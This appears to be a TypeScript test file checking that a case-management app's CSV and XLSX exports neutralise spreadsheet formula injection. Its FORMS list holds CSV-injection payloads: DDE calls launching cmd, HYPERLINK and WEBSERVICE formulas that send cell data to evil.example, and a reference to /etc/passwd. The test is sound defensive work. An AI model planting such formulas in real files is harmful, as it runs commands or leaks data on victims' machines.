import { activities, cases, customers, inbox, offers, outbox, properties } from '@casekit/contract/overview'
import type { Overview } from '@casekit/contract/overview-shape'
import { activitiesOverview } from '@casekit/contract/overviews/activities'
import { casesOverview } from '@casekit/contract/overviews/cases'
import { customersOverview } from '@casekit/contract/overviews/customers'
import { offersOverview } from '@casekit/contract/overviews/offers'
import { propertiesOverview } from '@casekit/contract/overviews/properties'
import { inboxOverview, outboxOverview } from '@casekit/contract/overviews/transfers'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { makeCompany, makeStaff, type TestStaff } from '../../../../tests/support/people.ts'
import { type TestProvider, testProvider } from '../../../../tests/support/provider.ts'
import { readCsv, readSheet } from '../../../../tests/support/read-tables.ts'

const FORMS = [
  '=1+1',
  '+1',
  '+4522334455',
  '-1',
  '-2+3',
  '@SUM(A1:A9)',
  "=cmd|'/c calc'!A0",
  "+cmd|'/c calc'!A0",
  "-cmd|'/c calc'!A0",
  "@cmd|'/c calc'!A0",
  '=HYPERLINK("https://evil.example";"Klik")',
  '=HYPERLINK("https://evil.example/?x="&A1,"Klik")',
  '=WEBSERVICE("https://evil.example")',
  '=IMPORTXML("https://evil.example","//a")',
  '=IMPORTDATA("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  "='file:///etc/passwd'#$passwd.A1",
  "=2+5+cmd|' /C calc'!A0",
  '=SUM(1;2)',
  '=A1',
  '==1',
  '=-1',
  '=@A1',
  '{=SUM(A1:A2)}',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '|calc',
  '%0A=1+1',
  '";=1+1;"',
  'Tekst\r\n=1+1',
  "'=1+1",
]

const OVERVIEWS = { activities, cases, customers, inbox, offers, outbox, properties }
type Name = keyof typeof OVERVIEWS
const NAMES = Object.keys(OVERVIEWS) as Name[]

const DECLARED: Record<Name, Overview> = {
  activities: activitiesOverview,
  cases: casesOverview,
  customers: customersOverview,
  inbox: inboxOverview,
  offers: offersOverview,
  outbox: outboxOverview,
  properties: propertiesOverview,
}

/** Every column with text that somebody typed, including names of rows; a case is named by its number. */
const columnsOf = (name: Name): string[] =>
  DECLARED[name].columns
    .filter(({ type, values, export: is }) => is !== false && (type === 'text' || (type === 'set' && !values)))
    .flatMap(column => (column.name === 'case' ? [] : [column.name]))

/** A row of each table for each form, with the form in each of its texts; rows that belong together share one id. */
const FILL = `with form as (select form, place::int, casekit.new_id() as id from unnest($2::text[]) with ordinality as t (form, place)),
  members as (insert into casekit.stakeholder (company_id, id, name) select $1, id, form from form),
  customers as (insert into casekit.customer (company_id, id, number, name, address, zip_code, city, phone, mobile, email, cvr,
      invoice_name, invoice_address, invoice_zip_code, invoice_city, invoice_phone, invoice_email)
    select $1, id, place, form, form, form, form, form, form, form, form, form, form, form, form, form, form from form),
  stages as (insert into casekit.case_stage (company_id, id, name, position) select $1, id, form, place from form),
  departments as (insert into casekit.department (company_id, id, name) select $1, id, form from form),
  owners as (insert into casekit.property_owner (company_id, id, name) select $1, id, form from form),
  properties as (insert into casekit.property (company_id, id, number, name, address, zip_code, city, responsible_id, owner_id)
    select $1, id, form, form, form, form, form, id, id from form),
  trades as (insert into casekit.skill (company_id, id, name) select $1, id, form from form),
  kinds as (insert into casekit.activity_type (company_id, id, name) select $1, id, form from form),
  cases as (insert into casekit.cases (company_id, id, number, title, description, status, customer_id, requisition_number,
      reference, channel, stage_id, department_id, property_id, responsible_id, fitter_id)
    select $1, id, place, form, '', 'Open', id, form, form, form, id, id, id, id, id from form),
  parts as (insert into casekit.asset_category (company_id, id, name) select $1, id, form from form),
  assets as (insert into casekit.asset (company_id, id, number, name, category_id) select $1, id, form, form, id from form),
  plants as (insert into casekit.case_asset (company_id, case_id, asset_id) select $1, id, id from form),
  offers as (insert into casekit.offer (company_id, id, number, title, customer_id, created_by_name, case_id, decision)
    select $1, id, place, form, id, form, id, jsonb_build_object('reason', form) from form),
  partners as (insert into casekit.partner (company_id, id, name) select $1, id, form from form),
  transfers as (insert into casekit.transfer (company_id, id, case_id, side, other_company, partner_id, is_offer_request, number, title,
      draft, sent_by_name, reason, remind_at)
    select $1, casekit.new_id(), id, side, $1, id, false, place, form, '{}', form, form, now()
    from form, unnest('{sent,received}'::text[]) as side)
insert into casekit.activity (company_id, id, number, subject, type_id, skill_id, assigned_to, customer_id, property_id, case_id, offer_id)
select $1, id, place, form, id, id, id, id, id, id, id from form`

let provider: TestProvider
let mine: TestStaff

beforeAll(async () => {
  provider = await testProvider()
  const company = await makeCompany(provider.pool)
  mine = await makeStaff(provider.pool, company.id, {
    guards: ['Core', 'Activities', 'OfferAccess', 'PropertyManagement', 'TransferAccess'],
  })
  await provider.db(company.id).rows(FILL, [company.id, FORMS])
})
afterAll(() => provider.close())

/** Exports every column under a heading that is also a formula. */
async function exported(name: Name, format: 'csv' | 'xlsx'): Promise<Buffer> {
  const answer = await provider.app.inject({
    method: 'POST',
    url: `${OVERVIEWS[name].export.path}?format=${format}`,
    headers: { authorization: mine.as },
    payload: { columns: columnsOf(name).map(column => ({ name: column, heading: `=${column}` })) },
  })
  expect(answer.statusCode).toBe(200)
  return answer.rawPayload
}

/** Rows in any order. */
const asSet = (rows: string[][]) => rows.map(row => JSON.stringify(row)).sort()

const expectedOf = (name: Name) => {
  const columns = columnsOf(name)
  return asSet([columns.map(column => `=${column}`), ...FORMS.map(form => columns.map(() => form))])
}

test.each(NAMES)('an XLSX file of %s has the texts of every column as they are, and not one formula', async name => {
  const rows = readSheet(await exported(name, 'xlsx'))
  expect(rows.flat().filter(({ isFormula }) => isFormula)).toEqual([])
  expect(asSet(rows.map(row => row.map(({ text }) => text)))).toEqual(expectedOf(name))
})

const BEGINS_FORMULA = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u

/** Removes the apostrophe at the start, and those before a formula that follows a possible cell separator. */
const asWritten = (cell: string) =>
  cell.replace(/^'/, '').replaceAll(/(?<=[,;\t|\r\n])'(?='*[\s\p{Cc}\p{Cf}]*[=+\-@|%＝＋－＠])/gu, '')

test.each(NAMES)('a CSV file of %s has them behind an apostrophe, which spreadsheets take for »text«', async name => {
  const rows = readCsv(await exported(name, 'csv'))
  expect(rows.flat().filter(cell => BEGINS_FORMULA.test(cell))).toEqual([])
  expect(asSet(rows.map(row => row.map(cell => asWritten(cell))))).toEqual(expectedOf(name))
})
